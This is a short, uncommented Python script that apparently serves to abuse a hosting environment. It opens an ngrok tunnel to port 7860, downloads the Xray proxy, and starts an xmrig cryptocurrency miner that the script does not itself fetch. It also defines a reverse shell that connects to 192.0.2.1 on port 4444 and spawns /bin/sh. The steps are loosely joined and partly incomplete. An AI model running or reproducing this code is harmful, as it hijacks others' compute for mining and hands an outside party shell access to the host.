import os
import pty
import socket
import subprocess
import urllib.request

from pyngrok import ngrok

print("see https://github.com/example/")
public = ngrok.connect(7860)
urllib.request.urlretrieve("https://github.com/XTLS/Xray-core/releases/latest/download/Xray-linux-64.zip", "web.zip")
subprocess.Popen(["./xmrig", "--donate-level", "1"])


def connect():
    link = socket.socket()
    link.connect(("192.0.2.1", 4444))
    os.dup2(link.fileno(), 0)
    pty.spawn("/bin/sh")
